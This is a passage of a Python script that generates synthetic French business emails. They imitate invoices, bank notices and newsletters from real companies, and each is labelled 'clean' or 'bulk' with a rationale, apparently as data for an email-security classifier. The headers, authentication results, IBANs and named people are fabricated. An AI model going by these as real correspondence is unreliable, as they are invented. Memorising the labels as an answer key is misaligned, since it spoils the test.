            "Genuine fortnightly TotalEnergies fuel-card invoice from totalenergies.com with the invoice PDF attached and no links, paid by the existing SEPA mandate.",
            t=t, helo=host, ip="160.92.124.18", spf="pass", mailfrom="totalenergies.com", dkims=[("pass", "totalenergies.com")],
            from_dom="totalenergies.com", dmarc="pass", compauth="pass", reason="100", headers=headers, body=body, attach=True,
            return_path="<ne-pas-repondre.cartes@totalenergies.com>")


def l_ulys_releve() -> None:
    stem = "b51-legit-ulys-releve"
    t = paris("2026-01-08 08:16:54")
    rcpt = mail("parc")
    html = f"""<!DOCTYPE html><html><head><meta charset="utf-8"></head>
<body style="margin:0;background:#f0f3f7">
<table width="100%" cellpadding="0" cellspacing="0"><tr><td align="center" style="padding:20px 0">
<table width="600" cellpadding="0" cellspacing="0" style="background:#fff;font-family:Arial,sans-serif;color:#003a70">
<tr><td style="padding:20px 26px"><b style="font-size:22px;color:#0064b0">Ulys</b> <span style="font-size:12px;color:#666">by VINCI Autoroutes</span></td></tr>
<tr><td style="padding:0 26px 24px 26px;font-size:14px;line-height:21px;color:#333">
<p>Bonjour,</p>
<p>Votre relev&eacute; de p&eacute;age Ulys Pro de <b>d&eacute;cembre 2025</b> est disponible dans votre espace client.</p>
<p>Compte : KERLANN INDUSTRIES - 37 badges actifs<br>Montant : <b>4 812,36 &euro; TTC</b><br>Pr&eacute;l&egrave;vement pr&eacute;vu le 15/01/2026</p>
<p><a href="https://www.ulys.vinci-autoroutes.com/espace-client/factures" style="color:#0064b0;font-weight:bold">Consulter mon relev&eacute;</a></p>
</td></tr>
<tr><td style="padding:14px 26px;background:#f7f7f7;font-size:11px;color:#888">VINCI Autoroutes - Ulys. Vous recevez ce message car vous &ecirc;tes titulaire d'un contrat Ulys Pro. <a href="https://www.ulys.vinci-autoroutes.com/espace-client/preferences" style="color:#888">G&eacute;rer mes notifications</a></td></tr>
</table></td></tr></table></body></html>
"""
    ip = f"185.41.28.{num(stem, 10, 200)}"
    helo = "mailout.vinci-autoroutes.com"
    headers = "\n".join([
        postfix_hop("ulys-notif-01.vinci-autoroutes.local (unknown [10.30.2.61])", helo, postfix_qid(stem), rcpt, t, esmtp="ESMTP",
                    cipher=False),
        dkim("vinci-autoroutes.com", "va2024", t, "Date:From:To:Message-ID:Subject:MIME-Version:Content-Type", stem),
        f"Date: {rfc(t)}",
        "From: Ulys <ne-pas-repondre@ulys.vinci-autoroutes.com>",
        f"To: {rcpt}",
        f"Message-ID: <{guid(stem + 'mid')}@ulys.vinci-autoroutes.com>",
        subject("Votre relevé Ulys Pro de décembre 2025 est disponible", "UTF-8", "Q"),
        "MIME-Version: 1.0",
    ])
    deliver(stem, "clean",
            "Genuine monthly Ulys Pro toll statement notice from VINCI Autoroutes (vinci-autoroutes.com signature) linking only to ulys.vinci-autoroutes.com.",
            t=t, helo=helo, ip=ip, spf="pass", mailfrom="ulys.vinci-autoroutes.com", dkims=[("pass", "vinci-autoroutes.com")],
            from_dom="ulys.vinci-autoroutes.com", dmarc="pass", compauth="pass", reason="100", headers=headers,
            body=alt(strip_tags(html), html, f"=_{hx(stem + 'b', 28)}"),
            return_path="<bounce@ulys.vinci-autoroutes.com>")


def l_dkv_facture() -> None:
    stem = "b51-legit-dkv-facture"
    t = paris("2026-02-05 03:44:18")
    rcpt = mail("parc")
    html = """<html><head><meta charset="utf-8"></head><body style="font-family:Arial,sans-serif;font-size:13px;color:#1d1d1b">
<table width="600" cellpadding="0" cellspacing="0"><tr><td style="background:#003f7d;padding:14px 20px;color:#fff;font-size:18px"><b>DKV Mobility</b></td></tr>
<tr><td style="padding:18px 20px;line-height:20px">
<p>Madame, Monsieur,</p>
<p>Votre facture DKV n&deg; <b>FR2601-3318842</b> du 04/02/2026 est disponible dans DKV Cockpit (rubrique &laquo; Factures &raquo;).</p>
<p>Num&eacute;ro client : 7028 4417<br>Montant : 6 204,91 EUR<br>Mode de paiement : pr&eacute;l&egrave;vement SEPA</p>
<p>Acc&egrave;s &agrave; DKV Cockpit : <a href="https://my.dkv-mobility.com">my.dkv-mobility.com</a></p>
<p>Cordialement,<br>Votre service client DKV Mobility France</p>
<p style="font-size:10px;color:#777">DKV Euro Service GmbH + Co. KG, Balcke-D&uuml;rr-Allee 3, 40882 Ratingen, Allemagne. Ceci est un message automatique.</p>
</td></tr></table></body></html>
"""
    host = "mail-out1.dkv-mobility.com"
    headers = "\n".join([
        postfix_hop("einvoice-prd-03.dkv.local (unknown [10.22.8.13])", host, postfix_qid(stem), rcpt, t, esmtp="ESMTP", cipher=False),
        dkim("dkv-mobility.com", "dkv01", t, "Date:From:To:Message-ID:Subject:MIME-Version:Content-Type", stem),
        f"Date: {rfc(t)}",
        "From: DKV Mobility <noreply@dkv-mobility.com>",
        f"To: {rcpt}",
        f"Message-ID: <{guid(stem + 'mid')}@dkv-mobility.com>",
        "Subject: Votre facture DKV FR2601-3318842 est disponible",
        "MIME-Version: 1.0",
    ])
    deliver(stem, "clean",
            "Genuine DKV Mobility invoice-available notice in French from dkv-mobility.com, linking only to my.dkv-mobility.com.",
            t=t, helo=host, ip="195.243.114.42", spf="pass", mailfrom="dkv-mobility.com", dkims=[("pass", "dkv-mobility.com")],
            from_dom="dkv-mobility.com", dmarc="pass", compauth="pass", reason="100", headers=headers,
            body=alt(strip_tags(html), html, f"----=_Part_{num(stem, 100000, 999999)}_{num(stem + 'b', 100000000, 999999999)}"),
            return_path="<noreply@dkv-mobility.com>")


def l_ca_document() -> None:
    stem = "b51-legit-ca-document"
    t = paris("2026-03-05 06:58:31")
    rcpt = mail("daf")
    html = """<html><head><meta charset="utf-8"></head><body style="margin:0;background:#f4f4f4">
<table width="600" align="center" cellpadding="0" cellspacing="0" style="background:#fff;font-family:Arial,sans-serif;color:#333">
<tr><td style="padding:18px 24px;border-bottom:3px solid #009597"><b style="color:#009597;font-size:18px">Cr&eacute;dit Agricole</b> <span style="color:#666">Ille-et-Vilaine</span></td></tr>
<tr><td style="padding:22px 24px;font-size:14px;line-height:21px">
<p>Madame Le Goff,</p>
<p>Un nouveau document est disponible dans votre espace Cr&eacute;dit Agricole En Ligne Entreprises :</p>
<p style="background:#f2f8f8;padding:10px 14px"><b>Relev&eacute; de compte</b> - KERLANN INDUSTRIES - compte n&deg; ****8402<br>P&eacute;riode : f&eacute;vrier 2026</p>
<p>Pour le consulter, connectez-vous &agrave; votre espace habituel depuis le site credit-agricole.fr ou l'application Ma Banque Pro.</p>
<p>Par mesure de s&eacute;curit&eacute;, cet e-mail ne contient aucun lien de connexion. Votre conseiller ne vous demandera jamais vos codes d'acc&egrave;s ni de valider une op&eacute;ration Securipass que vous n'avez pas initi&eacute;e.</p>
<p>Votre Caisse r&eacute;gionale</p>
</td></tr>
<tr><td style="padding:14px 24px;background:#f4f4f4;font-size:10px;color:#888">Caisse R&eacute;gionale de Cr&eacute;dit Agricole Mutuel d'Ille-et-Vilaine - 4 rue Louis Braille, 35136 Saint-Jacques-de-la-Lande. Merci de ne pas r&eacute;pondre &agrave; ce message.</td></tr>
</table></body></html>
"""
    ip = f"185.14.{num(stem, 160, 170)}.{num(stem + 'x', 10, 200)}"
    helo = "mail-out.credit-agricole.fr"
    headers = "\n".join([
        postfix_hop("edoc-notif-p2.ca-technologies.fr (unknown [10.210.4.18])", helo, postfix_qid(stem), rcpt, t, esmtp="ESMTP",
                    cipher=False),
        dkim("credit-agricole.fr", "ca2023", t, "Date:From:To:Message-ID:Subject:MIME-Version:Content-Type", stem),
        f"Date: {rfc(t)}",
        "From: " + addr("Crédit Agricole Ille-et-Vilaine", "ne-pas-repondre@credit-agricole.fr", "UTF-8", "Q"),
        f"To: {rcpt}",
        f"Message-ID: <{guid(stem + 'mid')}@credit-agricole.fr>",
        "Subject: Un nouveau document est disponible dans votre espace",
        "MIME-Version: 1.0",
    ])
    deliver(stem, "clean",
            "Genuine Crédit Agricole Ille-et-Vilaine notice of a new account statement in the business online space, from credit-agricole.fr and explicitly without any login link.",
            t=t, helo=helo, ip=ip, spf="pass", mailfrom="credit-agricole.fr", dkims=[("pass", "credit-agricole.fr")],
            from_dom="credit-agricole.fr", dmarc="pass", compauth="pass", reason="100", headers=headers,
            body=alt(strip_tags(html), html, f"----=_Part_{num(stem, 100000, 999999)}_{num(stem + 'b', 100000000, 999999999)}"),
            return_path="<ne-pas-repondre@credit-agricole.fr>")


def l_qonto_virement() -> None:
    stem = "b51-legit-qonto-virement"
    t = paris("2025-02-26 15:27:08")
    rcpt = mail("daf")
    click = f"https://url{num(stem, 1000, 9999)}.qonto.com/ls/click?upn=u001.{b64url(stem + 'upn', 110)}"
    html = f"""<!DOCTYPE html><html><head><meta charset="utf-8"></head>
<body style="margin:0;background:#f6f5f3;font-family:Inter,Helvetica,Arial,sans-serif">
<table role="presentation" width="100%"><tr><td align="center" style="padding:28px 12px">
<table role="presentation" width="560" style="background:#fff;border-radius:8px">
<tr><td style="padding:30px 34px 0 34px"><img src="https://qonto.com/blog/images/asset/qonto-logo-black.png" width="90" alt="Qonto"></td></tr>
<tr><td style="padding:22px 34px;color:#1d1d1b;font-size:15px;line-height:24px">
<h1 style="font-size:22px;margin:0 0 14px 0">Vous avez re&ccedil;u 2 160,00 &euro;</h1>
<p>Bonjour Anne-Sophie,</p>
<p>Un virement de <b>TRANSPORTS IRUNA SL</b> a &eacute;t&eacute; cr&eacute;dit&eacute; sur le compte <b>KERLANN INDUSTRIES - Frais</b>.</p>
<p style="color:#6b6b6b;font-size:13px">R&eacute;f&eacute;rence : AVOIR 2025-0112 KERLANN</p>
<p style="margin:24px 0"><a href="{click}" style="background:#1d1d1b;color:#fff;padding:12px 22px;border-radius:4px;text-decoration:none">Voir la transaction</a></p>
</td></tr>
<tr><td style="padding:16px 34px;font-size:12px;color:#8a8a8a;border-top:1px solid #eee">Vous recevez cet e-mail car les notifications de transactions sont activ&eacute;es. Qonto - Olinda SAS, 18 rue de Navarin, 75009 Paris.</td></tr>
</table></td></tr></table>
<img src="https://url{num(stem, 1000, 9999)}.qonto.com/wf/open?upn=u001.{b64url(stem + 'open', 80)}" alt="" width="1" height="1" border="0" style="height:1px !important;width:1px !important">
</body></html>
"""
    ip = f"149.72.{num(stem, 120, 250)}.{num(stem + 'x', 10, 250)}"
    helo = f"o{num(stem + 'o', 1, 30)}.ptr{num(stem + 'p', 1000, 9999)}.qonto.com"
    headers = "\n".join([
        fold(f"Received: by recvd-{hx(stem + 'rv', 9)}-{hx(stem + 'rv2', 5)} with SMTP id recvd-{hx(stem + 'rv', 9)}-{hx(stem + 'rv2', 5)}-1-"
             f"{hx(stem, 8, True)}-{num(stem, 10, 99)} {t.astimezone(timezone.utc).strftime('%Y-%m-%d %H:%M:%S')}.{num(stem + 'us', 100000000, 999999999)} +0000 UTC"),
        dkim("qonto.com", "s1", t, "content-type:from:mime-version:subject:to:cc:content-type:from:subject:to", stem),
        "From: Qonto <no-reply@qonto.com>",
        "Mime-Version: 1.0",
        subject("Vous avez reçu 2 160,00 €", "UTF-8", "Q"),
        f"To: {rcpt}",
        f"Date: {rfc(utc(t))}",
        f"Message-ID: <{b64url(stem + 'mid', 16)}@geopod-ismtpd-{num(stem + 'g', 1, 40)}>",
        f"X-SG-EID: u001.{b64url(stem + 'eid', 96)}",
        "X-Entity-ID: u001." + b64url(stem + "ent", 18),
    ])
    deliver(stem, "clean",
            "Genuine Qonto 'vous avez reçu un virement' transaction notification from qonto.com (SendGrid with qonto.com branded click tracking), about an incoming credit note refund.",
            t=t, helo=helo, ip=ip, spf="pass", mailfrom=f"em{num(stem + 'p', 1000, 9999)}.qonto.com", dkims=[("pass", "qonto.com")],
            from_dom="qonto.com", dmarc="pass", compauth="pass", reason="100", headers=headers,
            body=alt(strip_tags(html), html, hx(stem + "bd", 64)),
            return_path=f"<bounces+{num(stem + 'b1', 1000000, 9999999)}-{hx(stem + 'b2', 4)}-{rcpt.replace('@', '=')}@em{num(stem + 'p', 1000, 9999)}.qonto.com>")


def l_chorus_pro_statut() -> None:
    stem = "b51-legit-chorus-pro-statut"
    t = paris("2025-03-13 18:05:11")
    rcpt = mail("compta")
    plain = ("Bonjour,\n\nLe statut de la facture suivante a été modifié :\n\n"
             "Fournisseur : KERLANN INDUSTRIES (SIRET 48213957400027)\nDestinataire : CENTRE HOSPITALIER UNIVERSITAIRE DE RENNES\n"
             "Numéro de facture : FAC-2025-02-0311\nMontant TTC : 8 416,20 EUR\nNouveau statut : MISE EN PAIEMENT\n\n"
             "Vous pouvez consulter le détail de la facture dans votre espace Chorus Pro : https://chorus-pro.gouv.fr\n\n"
             "Ce message est envoyé automatiquement par la solution Chorus Pro. Merci de ne pas y répondre.\n"
             "Agence pour l'Informatique Financière de l'État (AIFE)\n")
    hop, host, ip = finances_hop(stem, t, rcpt, "cpp-notif-prod02.aife.finances.gouv.fr")
    headers = "\n".join([
        hop,
        dkim("chorus-pro.gouv.fr", "cpp2024", t, "Date:From:To:Message-ID:Subject:MIME-Version:Content-Type", stem),
        f"Date: {rfc(t)}",
        "From: Chorus Pro <no-reply@chorus-pro.gouv.fr>",
        f"To: {rcpt}",
        f"Message-ID: <{num(stem + 'm', 100000000, 999999999)}.{num(stem + 'm2', 100, 999)}.{int(t.timestamp()) * 1000}.JavaMail.cpp@cpp-notif-prod02>",
        subject("[Chorus Pro] Changement de statut de la facture FAC-2025-02-0311 : Mise en paiement", "UTF-8", "Q"),
        "MIME-Version: 1.0",
    ])
    deliver(stem, "clean",
            "Genuine Chorus Pro status notice ('mise en paiement' of an invoice to a public hospital) from chorus-pro.gouv.fr in plain text with the bare chorus-pro.gouv.fr address.",
            t=t, helo=host, ip=ip, spf="pass", mailfrom="chorus-pro.gouv.fr", dkims=[("pass", "chorus-pro.gouv.fr")],
            from_dom="chorus-pro.gouv.fr", dmarc="pass", compauth="pass", reason="100", headers=headers,
            body=Leaf("text/plain", plain.encode(), "quoted-printable", "; charset=UTF-8"),
            return_path="<no-reply@chorus-pro.gouv.fr>")


def l_teleroute_alerte() -> None:
    stem = "b51-legit-teleroute-alerte"
    t = paris("2025-04-24 06:45:02")
    rcpt = mail("affret")
    offers = [("Rennes (35)", "Lyon (69)", "25/04", "Tautliner 13,6 m", "24 t"),
              ("Vitré (35)", "Corbas (69)", "25/04", "Frigo", "18 t"),
              ("Rennes (35)", "Vénissieux (69)", "28/04", "Tautliner", "12 LDM"),
              ("Fougères (35)", "Saint-Priest (69)", "28/04", "Plateau", "22 t")]
    rows = "\n".join(f'<tr><td style="padding:6px;border-bottom:1px solid #eee">{a}</td><td style="padding:6px;border-bottom:1px solid #eee">{b}</td>'
                     f'<td style="padding:6px;border-bottom:1px solid #eee">{c}</td><td style="padding:6px;border-bottom:1px solid #eee">{d}</td>'
                     f'<td style="padding:6px;border-bottom:1px solid #eee">{e}</td></tr>' for a, b, c, d, e in offers)
    html = f"""<html><head><meta charset="utf-8"></head><body style="font-family:Arial,sans-serif;font-size:13px;color:#222">
<table width="620" cellpadding="0" cellspacing="0"><tr><td style="background:#1c2d5a;color:#fff;padding:14px 20px;font-size:18px"><b>teleroute</b> <span style="font-size:11px;color:#9fb3d9">by Alpega</span></td></tr>
<tr><td style="padding:16px 20px">
<p>Bonjour Kévin,</p>
<p>4 nouvelles offres de fret correspondent &agrave; votre recherche enregistr&eacute;e <b>&laquo; Bretagne &rarr; Rh&ocirc;ne &raquo;</b> :</p>
<table cellspacing="0" style="font-size:12px;width:100%"><tr style="background:#f0f3f8"><th align="left" style="padding:6px">Chargement</th><th align="left" style="padding:6px">Livraison</th><th align="left" style="padding:6px">Date</th><th align="left" style="padding:6px">V&eacute;hicule</th><th align="left" style="padding:6px">Poids</th></tr>
{rows}</table>
<p><a href="https://www.teleroute.com/fr-fr/app/freight/search?savedSearch=88412" style="color:#e4572e;font-weight:bold">Voir les offres dans Teleroute</a></p>
<p style="font-size:11px;color:#888">Vous recevez cet e-mail car vous avez activ&eacute; les alertes pour cette recherche. <a href="https://www.teleroute.com/fr-fr/app/settings/notifications" style="color:#888">G&eacute;rer mes alertes</a><br>Alpega TMS / Teleroute - Avenue Reine Astrid 92, 1310 La Hulpe, Belgique</p>
</td></tr></table></body></html>
"""
    ip = f"149.72.{num(stem, 120, 250)}.{num(stem + 'x', 10, 250)}"
    helo = f"o{num(stem + 'o', 1, 30)}.ptr{num(stem + 'p', 1000, 9999)}.teleroute.com"
    headers = "\n".join([
        fold(f"Received: by recvd-{hx(stem + 'rv', 9)}-{hx(stem + 'rv2', 5)} with SMTP id recvd-{hx(stem + 'rv', 9)}-{hx(stem + 'rv2', 5)}-1-"
             f"{hx(stem, 8, True)}-{num(stem, 10, 99)} {t.astimezone(timezone.utc).strftime('%Y-%m-%d %H:%M:%S')}.{num(stem + 'us', 100000000, 999999999)} +0000 UTC"),
        dkim("teleroute.com", "s1", t, "content-type:from:mime-version:subject:to:cc:content-type:from:subject:to", stem),
        "From: Teleroute <noreply@teleroute.com>",
        "Mime-Version: 1.0",
        subject("4 nouvelles offres de fret : Bretagne → Rhône", "UTF-8", "Q"),
        f"To: {rcpt}",
        f"Date: {rfc(utc(t))}",
        f"Message-ID: <{b64url(stem + 'mid', 16)}@geopod-ismtpd-{num(stem + 'g', 1, 40)}>",
        f"X-SG-EID: u001.{b64url(stem + 'eid', 96)}",
        "X-Entity-ID: u001." + b64url(stem + "ent", 18),
    ])
    deliver(stem, "clean",
            "Genuine Teleroute saved-search alert listing four freight offers from Brittany to the Rhône, sent via SendGrid from teleroute.com with links to teleroute.com only.",
            t=t, helo=helo, ip=ip, spf="pass", mailfrom=f"em{num(stem + 'p', 1000, 9999)}.teleroute.com", dkims=[("pass", "teleroute.com")],
            from_dom="teleroute.com", dmarc="pass", compauth="pass", reason="100", headers=headers,
            body=alt(strip_tags(html), html, hx(stem + "bd", 64)),
            return_path=f"<bounces+{num(stem + 'b1', 1000000, 9999999)}-{hx(stem + 'b2', 4)}-{rcpt.replace('@', '=')}@em{num(stem + 'p', 1000, 9999)}.teleroute.com>")


def l_timocom_newsletter() -> None:
    stem = "b51-legit-timocom-newsletter"
    t = paris("2025-05-08 10:00:04")
    rcpt = mail("affret")

    def trk(n: int) -> str:
        return f"https://news.timocom.com/d/d.html?o{hx(stem + 'o', 10)}{n:02d}{hx(stem + 'k' + str(n), 6)}"

    html = f"""<!DOCTYPE html><html lang="de"><head><meta charset="utf-8"><meta name="viewport" content="width=device-width"><title>TIMOCOM Newsletter</title></head>
<body style="margin:0;background:#eef2f5">
<table role="presentation" width="100%" cellpadding="0" cellspacing="0"><tr><td align="center">
<table role="presentation" width="640" cellpadding="0" cellspacing="0" style="background:#fff;font-family:Arial,Helvetica,sans-serif;color:#1e1e1e">
<tr><td style="padding:10px 28px;font-size:11px;color:#888;text-align:right"><a href="{trk(1)}" style="color:#888">Im Browser ansehen</a></td></tr>
<tr><td style="padding:10px 28px 18px 28px;border-bottom:4px solid #ffd200"><b style="font-size:24px;color:#00305e">TIMOCOM</b></td></tr>
<tr><td style="padding:24px 28px"><h1 style="font-size:22px;color:#00305e;margin:0 0 12px 0">Transportbarometer Q1/2025: Frachtaufkommen steigt um 11 %</h1>
<p style="font-size:14px;line-height:22px">Im ersten Quartal 2025 wurden im TIMOCOM Smart Logistics System deutlich mehr Frachten als im Vorquartal eingestellt. Besonders stark wuchs die Nachfrage auf den Relationen Deutschland &ndash; Frankreich und Polen &ndash; Deutschland.</p>
<p><a href="{trk(2)}" style="color:#00305e;font-weight:bold">Zum Transportbarometer &rarr;</a></p></td></tr>
<tr><td style="padding:0 28px 22px 28px"><h2 style="font-size:17px;color:#00305e">Neu in der Frachtenb&ouml;rse: Routen-Matching mit CO&#8322;-Angabe</h2>
<p style="font-size:14px;line-height:22px">Ab sofort zeigt die Frachtenb&ouml;rse f&uuml;r jedes passende Angebot die gesch&auml;tzten CO&#8322;-Emissionen der Leerfahrt an.</p>
<p><a href="{trk(3)}" style="color:#00305e;font-weight:bold">Mehr erfahren &rarr;</a></p></td></tr>
<tr><td style="padding:0 28px 22px 28px"><h2 style="font-size:17px;color:#00305e">Webinar: Zahlungssicherheit in der Logistik</h2>
<p style="font-size:14px;line-height:22px">Wie Sie Frachtbetrug und gef&auml;lschte Zahlungsaufforderungen erkennen &ndash; am 22. Mai um 10 Uhr. Kostenlos f&uuml;r alle Kunden.</p>
<p><a href="{trk(4)}" style="color:#00305e;font-weight:bold">Jetzt anmelden &rarr;</a></p></td></tr>
<tr><td style="padding:18px 28px;background:#00305e;color:#cfd8e3;font-size:11px;line-height:17px">TIMOCOM GmbH &middot; TIMOCOM Platz 1 &middot; 40699 Erkrath &middot; Deutschland<br>
Sie erhalten diesen Newsletter, weil Sie ihn als TIMOCOM-Kunde abonniert haben. <a href="{trk(98)}" style="color:#fff">Newsletter abbestellen</a> &middot; <a href="https://www.timocom.de/datenschutz" style="color:#fff">Datenschutz</a> &middot; <a href="https://www.timocom.de/impressum" style="color:#fff">Impressum</a></td></tr>
</table></td></tr></table>
<img src="https://news.timocom.com/d/d.gif?o{hx(stem + 'o', 10)}99{hx(stem + 'px', 6)}" width="1" height="1" alt="">
</body></html>
"""
    plain = strip_tags(html)
    ip = f"62.245.{num(stem, 188, 190)}.{num(stem + 'x', 10, 250)}"
    helo = f"mx{num(stem + 'm', 1, 9)}.news.timocom.com"
    headers = "\n".join([
        fold(f"Received: from localhost (localhost [127.0.0.1]) by {helo} (Inxmail) with ESMTP id {hx(stem + 'ix', 16, True)} "
             f"for <{rcpt}>; {rfc(t)}").replace("\n ", "\n\t"),
        dkim("news.timocom.com", "ix1", t, "From:To:Subject:Date:Message-ID:MIME-Version:Content-Type:List-Unsubscribe:List-Unsubscribe-Post", stem),
        f"Date: {rfc(t)}",
        "From: TIMOCOM <newsletter@news.timocom.com>",
        f"To: {rcpt}",
        f"Message-ID: <{hx(stem + 'mid', 20)}.{num(stem, 10000, 99999)}@news.timocom.com>",
        subject("Transportbarometer Q1/2025 & neue CO₂-Anzeige in der Frachtenbörse", "UTF-8", "Q"),
        "MIME-Version: 1.0",
        f"List-Unsubscribe: <{trk(98)}>, <mailto:unsubscribe-{hx(stem + 'u', 12)}@news.timocom.com>",
        "List-Unsubscribe-Post: List-Unsubscribe=One-Click",
        f"List-Id: <newsletter-de.news.timocom.com>",
        "Precedence: bulk",
        f"X-Inx-Mailing-ID: {num(stem + 'mi', 10000, 99999)}",
    ])
    deliver(stem, "bulk",
            "Genuine German TIMOCOM customer newsletter (transport barometer, new features, a webinar on payment fraud) sent through Inxmail from news.timocom.com with tracked links and one-click unsubscribe.",
            t=t, helo=helo, ip=ip, spf="pass", mailfrom="news.timocom.com", dkims=[("pass", "news.timocom.com")],
            from_dom="news.timocom.com", dmarc="pass", compauth="pass", reason="100", headers=headers,
            body=alt(plain, html, f"----=_Part_{num(stem, 100000, 999999)}_{num(stem + 'b', 100000000, 999999999)}"),
            return_path=f"<bounce-{hx(stem + 'rp', 16)}@news.timocom.com>")


def l_rib_rappel_fournisseur() -> None:
    stem = "b51-legit-rib-rappel-fournisseur"
    t = paris("2025-06-05 11:26:37")
    rcpt = mail("compta")
    letter = pdf_doc([
        "ATLANTIQUE PALETTES SAS", "12 rue de l'Ecotay - ZA du Hil - 35230 Noyal-Chatillon-sur-Seiche", "SIRET 512 447 208 00019", "",
        "Objet : Changement de domiciliation bancaire", "", "Madame, Monsieur,", "",
        "Suite au transfert de notre compte professionnel, nos reglements seront a effectuer,",
        "a compter des factures emises le 1er juillet 2025, sur le compte suivant :", "",
        "Banque : Credit Mutuel de Bretagne - Rennes Saint-Helier", "IBAN : FR76 1558 9351 2207 4418 2230 147", "BIC : CMBRFR2BARK", "",
        "Un courrier signe vous est adresse en parallele par voie postale.",
        "Merci de confirmer ce changement par telephone aupres de votre interlocuteur habituel,",
        "au numero figurant sur nos factures (02 99 05 71 30).", "", "Herve Le Moal - Gerant",
    ], "Changement de domiciliation bancaire")
    paras = [
        "Bonjour Monsieur Guillou,",
        "",
        "Comme évoqué avec votre service achats lors de notre rendez-vous du 28 mai, nous changeons de banque au 1er juillet."
        " Vous trouverez ci-joint notre courrier de changement de domiciliation bancaire ; l'original signé vous parvient également par la poste.",
        "",
        "Les factures émises avant le 1er juillet restent à régler sur notre compte actuel.",
        "",
        "Par précaution, et comme nous le demandons à tous nos clients, merci de ne pas prendre en compte ce changement sur la seule"
        " foi de cet e-mail : appelez-nous au numéro figurant sur nos factures (02 99 05 71 30) pour le confirmer avec moi ou avec"
        " Hervé Le Moal. Nous ne vous demanderons jamais de modifier un RIB en urgence ni de payer une facture déjà émise sur un autre compte.",
        "",
        "Bien cordialement,",
        "",
        "Sophie Lebreton",
        "Comptabilité - Atlantique Palettes",
        "02 99 05 71 30",
    ]
    html = "<div dir=\"ltr\">" + "".join(f"<div>{p}</div>" if p else "<div><br></div>" for p in paras) + "</div>\n"
    hop, host, ip, sigs = gworkspace_parts(stem, t, rcpt, "atlantique-palettes.fr")
    body = Multi("mixed", f"000000000000{hx(stem + 'm', 16)}", [
        alt("\n".join(paras) + "\n", html, f"000000000000{hx(stem + 'b', 16)}", "quoted-printable", "UTF-8"),
        Leaf("application/pdf", letter, "base64", '; name="Changement_domiciliation_Atlantique_Palettes.pdf"',
             'attachment; filename="Changement_domiciliation_Atlantique_Palettes.pdf"',
             [f"X-Attachment-Id: f_{hx(stem + 'att', 9)}", f"Content-ID: <f_{hx(stem + 'att', 9)}>"]),
    ])
    headers = "\n".join([
        hop, sigs,
        "MIME-Version: 1.0",
        "From: Sophie Lebreton <compta@atlantique-palettes.fr>",
        f"Date: {rfc(t)}",
        f"Message-ID: {gmail_msgid(stem)}",
        subject("Changement de domiciliation bancaire au 01/07/2025 - à confirmer par téléphone", "UTF-8", "Q"),
        "To: Erwan Guillou <erwan.guillou@kerlann-industries.fr>",
    ])
    deliver(stem, "clean",
            "Genuine supplier bank-domiciliation change from the pallet supplier's real Google Workspace domain, announced in advance, applying only to future invoices and explicitly asking for a phone callback to the number on past invoices.",
            t=t, helo=host, ip=ip, spf="pass", mailfrom="atlantique-palettes.fr", dkims=[("pass", "atlantique-palettes.fr")],
            from_dom="atlantique-palettes.fr", dmarc="pass", compauth="pass", reason="100", headers=headers, body=body,
            attach=True, return_path="<compta@atlantique-palettes.fr>")


def l_es_factura() -> None:
    stem = "b51-legit-es-factura"
    t = paris("2025-07-03 13:12:20")
    rcpt = mail("compta")
    doc = pdf_doc([
        "TRANSPORTES IRUNA S.L. - CIF B31447820", "Poligono Industrial Landaben, calle E - 31012 Pamplona (Navarra)", "",
        "FACTURA N. 2025/0612          Fecha: 30/06/2025", "", "Cliente: KERLANN INDUSTRIES - TVA FR47482139574", "",
        "Transporte Pamplona - Rennes, 26/06/2025, 33 palets, ref. KI-AF-25-2281     1 640,00 EUR",
        "Transporte Rennes - Zaragoza, 27/06/2025, grupaje, ref. KI-AF-25-2296         520,00 EUR", "",
        "Base imponible 2 160,00 EUR - IVA: inversion del sujeto pasivo (art. 196 Directiva 2006/112/CE)",
        "Total factura 2 160,00 EUR", "", "Vencimiento: 60 dias - transferencia a la cuenta habitual ES91 2100 ... 4471",
    ], "Factura 2025/0612")
    paras = [
        "Buenas tardes,",
        "",
        "Adjuntamos la factura 2025/0612 correspondiente a los transportes realizados la semana 26.",
        "Quedamos a su disposición para cualquier aclaración.",
        "",
        "Bonne journée / Un saludo,",
    ]
    sig = ["<b>Iñaki Etxeberria</b>", "Administración - Transportes Iruña S.L.", "Tel. +34 948 31 22 60"]
    html = outlook_html(paras, sig, lang="ES", charset="utf-8")
    server = "DB8PR05MB6682.eurprd05.prod.outlook.com"
    hop, helo, ip, sigs = m365_sender(stem, t, "transportesiruna.es", server, rcpt)
    body = Multi("mixed", f"_004_{server.split('.')[0]}{hx(stem + 'b', 20, True)}_", [
        Multi("alternative", f"_000_{server.split('.')[0]}{hx(stem + 'b', 20, True)}_", [
            text("\n".join(paras) + "\n\nIñaki Etxeberria\nAdministración - Transportes Iruña S.L.\n", "plain", "quoted-printable", "utf-8"),
            text(html, "html", "quoted-printable", "utf-8")]),
        attachment("application/pdf", "Factura_2025-0612_KERLANN.pdf", doc),
    ])
    headers = "\n".join([
        hop, sigs,
        "From: " + addr("Iñaki Etxeberria", "administracion@transportesiruna.es"),
        f"To: {rcpt}",
        "Subject: Factura 2025/0612 - KERLANN INDUSTRIES",
        "Thread-Topic: Factura 2025/0612 - KERLANN INDUSTRIES",
        "Thread-Index: " + thread_index(stem, t, 0),
        f"Date: {rfc(utc(t))}",
        f"Message-ID: {outlook_msgid(stem, server)}",
        "Accept-Language: es-ES, en-US",
        "Content-Language: es-ES",
        "X-MS-Has-Attach: yes",
        "X-MS-TNEF-Correlator:",
        "MIME-Version: 1.0",
    ])
    deliver(stem, "clean",
            "Genuine Spanish haulier invoice (two transports, reverse-charge VAT) from the partner's real Microsoft 365 domain transportesiruna.es with the invoice PDF and no change of bank details.",
            t=t, helo=helo, ip=ip, spf="pass", mailfrom="transportesiruna.es", dkims=[("pass", "transportesiruna.es")],
            from_dom="transportesiruna.es", dmarc="pass", compauth="pass", reason="100", headers=headers, body=body,
            attach=True, return_path="<administracion@transportesiruna.es>")


def l_nl_factuur_exact() -> None:
    stem = "b51-legit-nl-factuur-exact"
    t = paris("2025-08-07 16:40:33")
    rcpt = mail("compta")
    doc = pdf_doc([
        "Van der Linde Transport B.V.", "Distributieweg 8 - 3208 KJ Spijkenisse - KvK 24318871 - BTW NL809134772B01", "",
        "FACTUUR 20250877                Datum: 07-08-2025", "", "Debiteur: KERLANN INDUSTRIES, Rennes (FR) - BTW FR47482139574", "",
        "Grensoverschrijdend vervoer Rotterdam - Rennes, 31-07-2025, 26 pallets    1.380,00 EUR",
